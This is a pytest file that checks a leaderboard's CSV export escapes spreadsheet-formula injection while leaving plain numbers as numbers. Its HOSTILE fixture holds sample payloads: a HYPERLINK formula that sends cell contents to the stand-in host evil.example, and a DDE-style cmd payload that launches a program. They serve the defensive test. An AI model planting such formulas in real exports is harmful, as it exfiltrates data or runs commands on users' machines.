"""CSV exports neutralise spreadsheet formulas in text cells; numbers, negative ones too, stay numbers."""

import csv
import io

import pytest

from leaderboard.views.export import neutralised
from tests.leaderboard.factories import entry, reported, source

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': "'=HYPERLINK",
    "+SUM(1,2)": "'+SUM",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM",
    "\tTabbed": "'\tTabbed",
    "\rReturned": "'\rReturned",
    "-cmd|' /C calc'!A0": "'-cmd",
}


def export(client, query: str = "") -> list[dict]:
    response = client.get(f"/levels/2/export.csv{query}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_formula_like_method_names_labels_and_sources_are_written_as_text(client):
    paper = source("=1+2 paper")
    for name in HOSTILE:
        row_entry = entry(name, label="=1+2")
        reported(row_entry, "fast_1", 40.0, paper, source_table="@Table")
    rows = export(client)
    assert len(rows) == len(HOSTILE)
    by_method = {row["method"]: row for row in rows}
    for name, written in HOSTILE.items():
        row = by_method["'" + name]
        assert row["method"].startswith(written)
        assert row["entry"] == "'=1+2"
        assert row["fast_1_source"] == "'=1+2 paper · @Table"
        assert row["fast_1"] == "40.0"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


def test_negative_numbers_stay_numbers(client):
    row_entry = entry("Plain Method")
    reported(row_entry, "fast_1", 40.0)
    reported(row_entry, "speedup_mean", -0.25, aggregation="geometric")
    [row] = export(client, "?view=geomean")
    assert row["speedup_mean"] == "-0.25"
    assert float(row["speedup_mean"]) == -0.25


@pytest.mark.parametrize("number", ["-1", "-20.5", "-1e-05", "-0.0", "12", "3.5e+20", "-.5"])
def test_a_number_is_not_touched(number):
    assert neutralised(number) == number


@pytest.mark.parametrize("text", ["-", "-1+2", "-1e", "--1", "-1 ", "+1", "=1", "@1", "\t1", "\r1", "-inf"])
def test_formula_starts_that_are_not_plain_numbers_are_quoted(text):
    assert neutralised(text) == "'" + text


def test_ordinary_text_is_unchanged():
    assert neutralised("Qwen3 · run #4") == "Qwen3 · run #4"
    assert neutralised("") == ""
